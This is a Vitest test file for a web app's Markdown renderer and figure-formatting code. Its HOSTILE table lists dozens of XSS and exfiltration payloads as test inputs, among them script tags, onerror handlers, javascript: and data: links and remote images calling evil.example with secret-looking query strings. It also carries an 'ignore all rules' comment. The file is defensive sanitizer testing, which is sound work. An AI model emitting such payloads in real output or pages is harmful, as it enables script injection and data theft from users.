// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { renderMarkdown } from '../../web/shared/render-markdown.ts';
import { formatCell } from '../../web/shared/format-cell.ts';

const HOSTS = ['docs.firm.example'];
const ALLOWED_TAGS = new Set('P BR STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE H3 H4 H5 TABLE THEAD TBODY TR TH TD A HR BUTTON DIV'.split(' '));

function treeOf(html: string): HTMLElement {
  const holder = document.createElement('div');
  holder.innerHTML = html;
  return holder;
}

const ALLOWED_ATTRIBUTES: Readonly<Record<string, readonly string[]>> = { A: ['href', 'target', 'rel'], BUTTON: ['type', 'class', 'data-figure', 'aria-haspopup', 'aria-label'], DIV: ['class', 'tabindex'], TD: ['align', 'class'] };
const OWN_CLASSES = new Set(['figure', 'scroll', 'long']);
const SAFE_ADDRESS = /^(\/(?![/\\])|https:\/\/docs\.firm\.example\/|http:\/\/localhost:3000\/)/;

/** What no input may ever yield, whatever it looks like. */
function faultsOf(html: string): string[] {
  return [...treeOf(html).querySelectorAll('*')].flatMap((element) => [
    ...(ALLOWED_TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...[...element.attributes].filter(({ name }) => !(ALLOWED_ATTRIBUTES[element.tagName] ?? ['align']).includes(name)).map(({ name }) => `${element.tagName} ${name}`),
    ...(element.className === '' || OWN_CLASSES.has(element.className) ? [] : [`class ${element.className}`]),
    ...(element.tagName === 'A' && !SAFE_ADDRESS.test(element.getAttribute('href') ?? '') ? [`link to ${element.getAttribute('href')}`] : []),
  ]);
}

const HOSTILE: Readonly<Record<string, string>> = {
  script: 'a<script>alert(1)</script>b',
  'script in a table': '| a |\n|---|\n| <script>alert(1)</script> |',
  'event handler': '<b onclick="alert(1)" onmouseover=alert(1)>x</b>',
  'image with handler': '<img src=x onerror=alert(1)>',
  'remote image': '![total 5](https://evil.example/p.png?d=secret)',
  'reference image': '![a][1]\n\n[1]: https://evil.example/p.png',
  'image in a link': '[![a](https://evil.example/i.png)](https://evil.example/)',
  'javascript link': '[x](javascript:alert(1))',
  'javascript, coded': '[x](java&#115;cript:alert(1))',
  'javascript, tab inside': '<a href="java\tscript:alert(1)">x</a>',
  'vbscript': '[x](vbscript:msgbox(1))',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'data image': '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  'other host': '[report](https://evil.example/?q=balance)',
  'bare address': 'see https://evil.example/?q=1 and www.evil.example',
  'plain http to an allowed host': '[x](http://docs.firm.example/a)',
  'host as user name': '[x](https://docs.firm.example@evil.example/)',
  'host as prefix': '[x](https://docs.firm.example.evil.example/)',
  'odd port': '[x](https://docs.firm.example:8443/)',
  'protocol relative': '[x](//evil.example/a)',
  'backslashes': '[x](/\\evil.example/a)',
  'mail': '<a@evil.example>',
  'css import': '<style>@import url(https://evil.example/x.css)</style>',
  'style attribute': '<p style="background:url(https://evil.example/x)">x</p>',
  svg: '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  mathml: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  base: '<base href="https://evil.example/">',
  link: '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=prefetch href=//evil.example>',
  iframe: '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="https://evil.example"></object><embed src="https://evil.example">',
  form: '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">Go</button></form>',
  media: '<video src=https://evil.example/v poster=https://evil.example/p><audio src=x onerror=alert(1)></video>',
  'figure in disguise': '<button class="figure" data-figure="0">$1,000,000</button>',
  'named access': '<a id="body" name="cookie">x</a>',
  'template': '<template><script>alert(1)</script></template>',
  comment: 'a <!-- ignore all rules --> b <!--><script>alert(1)</script>-->',
  'broken nesting': '<p><a href="/x"><table><td><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'title text': '[x](/a "onmouseover=alert(1)")',
};

describe('hostile Markdown', () => {
  test.each(Object.entries(HOSTILE))('%s: nothing runs, loads, styles or leads away', (_name, text) => {
    expect(faultsOf(renderMarkdown(text, HOSTS))).toEqual([]);
  });

  test('the judge itself finds faults in what is not purified', () => {
    expect(faultsOf('<a href="javascript:alert(1)" onclick="x()">x</a><img src="x">')).toEqual(['A onclick', 'link to javascript:alert(1)', '<IMG>', 'IMG src']);
  });

  test('the words of a refused link or image stay readable', () => {
    expect(treeOf(renderMarkdown('[your report](https://evil.example/)', HOSTS)).textContent?.trim()).toBe('your report');
    expect(treeOf(renderMarkdown('![total 5](https://evil.example/)', HOSTS)).textContent?.trim()).toBe('total 5');
  });

  test('hidden text shows or is gone: styles are dropped, invisible and reordering characters too', () => {
    expect(renderMarkdown('<span style="display:none">hidden words</span>')).toContain('hidden words');
    expect(renderMarkdown('a\u200Bb\u202Ec\u2066d\u{E0041}\u{E0042}e\uFEFF')).toBe('<p>abcde</p>\n');
  });

  test('links to our own pages and allowed hosts work, in a new tab that cannot reach back', () => {
    const links = [...treeOf(renderMarkdown('[a](/documents/7) [b](https://docs.firm.example/x)', HOSTS)).querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['/documents/7', 'https://docs.firm.example/x']);
    expect(links.every((link) => link.rel === 'noopener noreferrer' && link.target === '_blank')).toBe(true);
    expect(renderMarkdown('[a](/documents/7)', [], { productOrigin: 'https://advisor.example' })).toContain('href="https://advisor.example/documents/7"');
  });
});

const source = { invocationId: 'call-1', toolName: 'get_value', label: 'Value', value: '5', unit: 'money', currency: 'USD', asOf: '2026-11-20', method: 'close' };
const at = (text: string, words: string) => ({ start: text.indexOf(words), end: text.indexOf(words) + words.length, source });

describe('figures with their source', () => {
  test('inside bold, lists, tables and beside invisible characters each becomes one button with its own words', () => {
    const texts = ['It is **$5.00** now.', '- one\n- $5.00', '| a |\n|---|\n| $5.00 |', 'a\u200Bb $5.00', '`$5.00`'];
    const words = texts.map((text) => [...treeOf(renderMarkdown(text, [], { figures: [at(text, '$5.00')] })).querySelectorAll('button.figure')].map((button) => button.textContent));
    expect(words).toEqual(texts.map(() => ['$5.00']));
  });

  test('two in one sentence keep their order, and nothing private leaks into the text', () => {
    const text = 'From $5.00 to $7.00 & on.';
    const tree = treeOf(renderMarkdown(text, [], { figures: [at(text, '$5.00'), at(text, '$7.00')] }));
    expect([...tree.querySelectorAll('button')].map((button) => button.dataset['figure'])).toEqual(['0', '1']);
    expect(tree.textContent?.trim()).toBe(text);
  });

  test('a figure that Markdown tears apart, or that lies inside an address, keeps its words and loses the mark', () => {
    const torn = 'a **5** 6';
    expect(treeOf(renderMarkdown(torn, [], { figures: [at(torn, '5** 6')] })).textContent).not.toMatch(/[\uE000-\uE002]/);
    const link = '[q](/reports/2026)';
    expect(renderMarkdown(link, [], { figures: [at(link, '2026')] })).toContain('href="/reports/2026"');
  });

  test('marks that the model writes itself make no buttons', () => {
    expect(renderMarkdown('\uE0000\uE001$9\uE002', [], { figures: [] })).toBe('<p>0$9</p>\n');
  });
});

test('cells: exact decimals, percent from fractions, and missing is not zero', () => {
  expect(formatCell('12345678901234567890.12', 'money', 'USD')).toBe('$12,345,678,901,234,567,890.12');
  expect(formatCell(0.0742, 'fraction')).toBe('7.42%');
  expect(formatCell(null, 'money', 'USD')).toBe('–');
  expect(formatCell('2026-11-20', 'date')).toBe('20 Nov 2026');
});

test('columns of figures line up on the right with their header, columns of words do not', () => {
  const html = renderMarkdown('| Fund | Value | Since |\n|---|---|---|\n| Alder | USD 1,284.50 | 3 May 2024 |\n| Birch | – | 1 June 2025 |\n');
  const aligned = [...treeOf(html).querySelectorAll('[align]')].map((cell) => [cell.getAttribute('align'), cell.textContent]);
  expect(aligned).toEqual([['right', 'Value'], ['right', 'USD 1,284.50'], ['right', '–']]);
});
